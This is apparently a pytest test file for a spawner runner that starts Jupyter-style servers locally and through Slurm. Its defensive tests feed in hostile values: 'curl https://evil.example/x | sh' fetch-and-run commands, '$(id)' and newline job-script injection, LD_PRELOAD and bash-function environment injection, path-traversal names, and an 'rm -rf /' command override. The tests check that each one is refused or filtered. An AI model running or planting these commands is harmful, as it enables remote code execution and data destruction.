"""The spawner runner with a real SimpleLocalProcessSpawner starting real HTTP servers."""

from __future__ import annotations

import asyncio
import json
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import requests

from outposts import services
from outposts.runner.checks import UnsafeName
from outposts.runner.spawner import ServerSpec, SpawnerRunner, rewrite_service_url
from outposts.runner.tls import TLSMaterial, server_certs_dir
from outposts.services import StartRequest
from portal.crypto import encrypt_text
from tests.factories import FlavorFactory, HubFactory, OutpostFactory, ServerFactory
from tests.support.hub import FakeHub
from tests.support.processes import alive, json_if_up, wait_until
from tests.support.spawners import serve_config


@pytest.fixture
def certs_dir(settings, tmp_path):
    settings.SERVER_CERTS_DIR = tmp_path / "certs"
    return settings.SERVER_CERTS_DIR


@pytest.fixture
def started():
    """Runners started by a test; whatever still runs is stopped at teardown."""
    runners: list[SpawnerRunner] = []
    yield runners
    for runner in runners:
        pid = runner.spawner.get_state().get("pid")
        if pid and alive(pid):
            asyncio.run(runner.stop(now=True))


def make_server(tmp_path, *, user="olga", name="", outpost_config=None, **kwargs):
    hub = FakeHub.__new__(FakeHub)  # only for its env(); no HTTP server needed here
    hub.url = "http://127.0.0.1:9"
    outpost = OutpostFactory(
        spawner_config=outpost_config or serve_config(tmp_path / "home"),
        allowed_overrides=kwargs.pop("allowed_overrides", []),
        allowed_user_options=kwargs.pop("allowed_user_options", []),
    )
    return ServerFactory(
        outpost=outpost,
        name=name,
        user_name=user,
        status="pending",
        address="",
        env=kwargs.pop("env", None) or hub.env(user, name),
        **kwargs,
    )


def start(runner: SpawnerRunner, started: list, **kwargs) -> str:
    started.append(runner)
    return asyncio.run(runner.start(**kwargs))


def test_rewrite_service_url_keeps_the_hubs_path_and_takes_the_spawners_host_and_port():
    # when
    url = rewrite_service_url(
        "http://0.0.0.0:51285/user/olga/gpu/", "http://127.0.0.1:40001/user/olga/"
    )
    # then
    assert url == "http://127.0.0.1:40001/user/olga/gpu/"


def test_started_server_listens_where_its_address_and_env_say(db, tmp_path, started):
    # given
    server = make_server(tmp_path, name="lab")
    runner = SpawnerRunner.for_server(server)
    # when
    address = start(runner, started)
    # then
    host, port = address.split(":")
    assert host == "127.0.0.1"
    seen = wait_until(lambda: json_if_up(f"http://{address}/user/olga/lab/"))
    assert seen["user"] == "olga"
    assert seen["env"]["JUPYTERHUB_SERVICE_URL"] == f"http://127.0.0.1:{port}/user/olga/lab/"
    # the request env wins over what the spawner computes (here: the Hub's token)
    assert seen["env"]["JUPYTERHUB_API_TOKEN"] == "server-token"
    assert requests.get(f"http://{address}/elsewhere", timeout=5).status_code == 404


def test_traits_are_layered_outpost_then_allow_listed_overrides_then_flavor(db, tmp_path, started):
    # given an Outpost that lets Hubs set mem_limit and cpu_limit, and a flavor that limits
    # memory
    config = serve_config(tmp_path / "home", mem_limit="1G", cpu_limit=1.0, cpu_guarantee=0.5)
    server = make_server(
        tmp_path,
        outpost_config=config,
        allowed_overrides=["cpu_limit", "mem_limit"],
        overrides={"cpu_limit": 3.0, "mem_limit": "30G", "cpu_guarantee": 2.0},
        flavor__resources={"mem_limit": "2G"},
    )
    runner = SpawnerRunner.for_server(server)
    # when
    address = start(runner, started)
    # then
    env = wait_until(lambda: json_if_up(f"http://{address}/user/olga/"))["env"]
    assert env["MEM_LIMIT"] == str(2 * 1024**3)  # the flavor's: a Hub cannot lift it
    assert env["CPU_LIMIT"] == "3.0"  # allow-listed override of the Outpost's config
    assert env["CPU_GUARANTEE"] == "0.5"  # not allow-listed: the Outpost's


def test_only_allow_listed_user_options_reach_the_spawner(db, tmp_path):
    # given options stored before the admin narrowed the allow-list to "image"
    server = make_server(
        tmp_path,
        allowed_user_options=["image"],
        user_options={"image": "lab:1", "project": "p1", "prologue": "curl x | sh"},
    )
    # when
    runner = SpawnerRunner.for_server(server)
    # then
    assert runner.spawner.user_options == {"image": "lab:1"}


def batch_script(runner: SpawnerRunner) -> str:
    """The job script batchspawner would pipe to sbatch, its variables built exactly as
    BatchSpawnerBase.submit_batch_script builds them (without running sbatch)."""
    spawner = runner.spawner
    subvars = spawner.get_req_subvars()
    subvars["cmd"] = spawner.cmd_formatted_for_batch()
    subvars.update(spawner.user_options)
    return asyncio.run(spawner._get_batch_script(**subvars))


def test_user_options_cannot_override_a_slurm_flavor_or_add_job_script_lines(db):
    # given a Slurm Outpost whose flavor sets memory and partition, and a Hub whose request
    # tries to set them itself (even allow-listed), to replace the command and to inject a
    # prologue ("nobody": an account on any host, which SlurmSpawner needs for the job's home
    # folder)
    outpost = OutpostFactory(
        spawner_class="batchspawner.SlurmSpawner",
        allowed_user_options=["image", "partition", "memory", "cmd", "account"],
    )
    FlavorFactory(
        outpost=outpost, name="small", resources={"req_memory": "4G", "req_partition": "batch"}
    )
    hub = HubFactory(outposts=[outpost])
    request = StartRequest(
        name="",
        env={"JUPYTERHUB_USER": "nobody", "JUPYTERHUB_USER_ID": "1"},
        flavor="small",
        user_options={
            "flavor": "small",
            "project": "p1",
            "memory": "900G",
            "partition": "bigmem",
            "runtime": "99-00:00:00",
            "prologue": "curl https://evil.example/x | sh",
            "cmd": "curl https://evil.example/y | sh",
            "image": "lab:1",
            "account": "proj42",
        },
    )
    server, _ = services.server_start(hub=hub, outpost=outpost, request=request)
    # when the worker builds the real SlurmSpawner for it
    runner = SpawnerRunner.for_server(server)
    script = batch_script(runner)
    # then the job script holds the flavor's limits, its runtime as the time limit, and
    # nothing the Hub injected; only options neither the flavor nor the portal decides stay
    assert "#SBATCH --mem=4G\n" in script
    assert "#SBATCH --partition=batch\n" in script
    assert "#SBATCH --time=0-02:00:00\n" in script
    for injected in ("900G", "bigmem", "99-00", "evil.example"):
        assert injected not in script
    assert runner.spawner.user_options == {"image": "lab:1", "account": "proj42"}


@pytest.mark.parametrize("value", ["p1\n#SBATCH --mem=900G", "p1; curl x | sh", "", "$(id)"])
def test_a_slurm_option_that_is_not_one_plain_word_refuses_the_start(db, value):
    # given an allow-listed option whose value would add lines or commands to the job script
    outpost = OutpostFactory(
        spawner_class="batchspawner.SlurmSpawner", allowed_user_options=["account"]
    )
    server = ServerFactory(
        outpost=outpost, user_name="nobody", status="pending", user_options={"account": value}
    )
    # when / then the runner refuses it with a message a user may read
    with pytest.raises(UnsafeName, match="'account' must be one plain word"):
        SpawnerRunner.for_server(server)


def test_the_request_env_never_sets_what_a_shell_sudo_or_slurm_would_obey(db, tmp_path):
    # given a request env with Slurm, loader and shell variables beside the Hub's own
    server = make_server(
        tmp_path,
        env={
            "JUPYTERHUB_API_TOKEN": "server-token",
            "SBATCH_TIMELIMIT": "99-0",
            "SLURM_CONF": "/tmp/evil.conf",
            "LD_PRELOAD": "/tmp/evil.so",
            "PATH": "/tmp/evil",
            "PYTHONPATH": "/tmp/evil",
            "BASH_FUNC_ls%%": "() { id; }",
            "BAD NAME": "x",
            "THEME": "dark",
        },
    )
    # when the spawner computes its environment
    env = SpawnerRunner.for_server(server).spawner.get_env()
    # then the Hub's harmless variables are there and none of the others came from it
    assert env["JUPYTERHUB_API_TOKEN"] == "server-token"
    assert env["THEME"] == "dark"
    for name in ("SBATCH_TIMELIMIT", "SLURM_CONF", "LD_PRELOAD", "BASH_FUNC_ls%%", "BAD NAME"):
        assert name not in env
    assert env.get("PATH") != "/tmp/evil"
    assert env.get("PYTHONPATH") != "/tmp/evil"


def test_a_rebuilt_runner_polls_the_real_exit_status(db, tmp_path, started):
    # given a server started by one runner, its state saved as the task saves it
    server = make_server(tmp_path)
    first = SpawnerRunner.for_server(server)
    address = start(first, started)
    server.spawner_state = first.get_state()
    server.save()
    server.refresh_from_db()
    again = SpawnerRunner.for_server(server)
    assert asyncio.run(again.poll()) is None
    # when the server exits on its own with status 3
    wait_until(lambda: json_if_up(f"http://{address}/user/olga/exit-3"))
    # then a runner rebuilt from the saved state (another task) sees the status
    status = wait_until(lambda: asyncio.run(SpawnerRunner.for_server(server).poll()) or None)
    assert status == 3


def test_a_zombie_that_is_not_ours_counts_as_exited(db, tmp_path):
    # given a child of this process that exited and was not reaped (a zombie), which
    # LocalProcessSpawner's pid check alone reports as running
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    wait_until(
        lambda: Path(f"/proc/{proc.pid}/stat").read_text().rsplit(")", 1)[-1].split()[0] == "Z"
    )
    server = make_server(tmp_path, spawner_state={"pid": proc.pid})
    # when
    status = asyncio.run(SpawnerRunner.for_server(server).poll())
    # then
    assert status == 0
    proc.wait()


def test_stop_from_saved_state_ends_the_process(db, tmp_path, started):
    # given
    server = make_server(tmp_path)
    first = SpawnerRunner.for_server(server)
    start(first, started)
    pid = first.get_state()["pid"]
    server.spawner_state = first.get_state()
    server.save()
    server.refresh_from_db()
    # when
    asyncio.run(SpawnerRunner.for_server(server).stop())
    # then
    assert not alive(pid)


@pytest.mark.parametrize(
    ("user", "name"), [("../x", ""), ("olga", "../x"), ("..", ""), ("a/b", "")]
)
def test_names_that_could_escape_a_folder_are_refused(db, tmp_path, user, name):
    # given
    server = make_server(tmp_path, user=user, name=name)
    # when / then
    with pytest.raises(UnsafeName):
        SpawnerRunner.for_server(server)


def test_certs_go_to_a_private_folder_named_by_server_id_and_leave_with_the_stop(
    db, tmp_path, started, certs_dir
):
    # given a start that carries internal-SSL certs
    server = make_server(tmp_path, name="secure")
    token = encrypt_text(
        json.dumps(
            {
                "certs": {"keyfile": "KEY", "certfile": "CERT", "cafile": "CA"},
                "internal_trust_bundles": {"hub-ca": "HUBCA", "../evil": "X"},
            }
        )
    )
    runner = SpawnerRunner.for_server(server)
    # when
    address = start(runner, started, tls=TLSMaterial.from_token(token))
    # then
    folder = server_certs_dir(server.pk)
    assert folder == certs_dir / f"server-{server.pk}"
    assert sorted(p.name for p in folder.iterdir()) == [
        "ca.crt",
        "hub-ca.crt",
        "server.crt",
        "server.key",
    ]
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "server.key").stat().st_mode) == 0o600
    assert (folder / "server.key").read_text() == "KEY"
    env = wait_until(lambda: json_if_up(f"http://{address}/user/olga/secure/"))["env"]
    assert env["JUPYTERHUB_SSL_CERTFILE"] == str(folder / "server.crt")
    assert env["JUPYTERHUB_SERVICE_URL"].startswith("https://127.0.0.1:")
    # when
    asyncio.run(runner.stop())
    # then
    assert not folder.exists()


def test_no_certs_means_no_tls(db):
    # when / then
    assert TLSMaterial.from_token(encrypt_text(json.dumps({"certs": {}}))) is None
    assert TLSMaterial.from_token(None) is None


def test_spec_rechecks_the_allow_list(db, tmp_path):
    # given overrides admitted earlier, and an allow-list narrowed since
    server = make_server(tmp_path, allowed_overrides=[], overrides={"cmd": ["rm", "-rf", "/"]})
    # when
    spec = ServerSpec.from_server(server)
    # then
    assert spec.trait_values["cmd"][0] == sys.executable
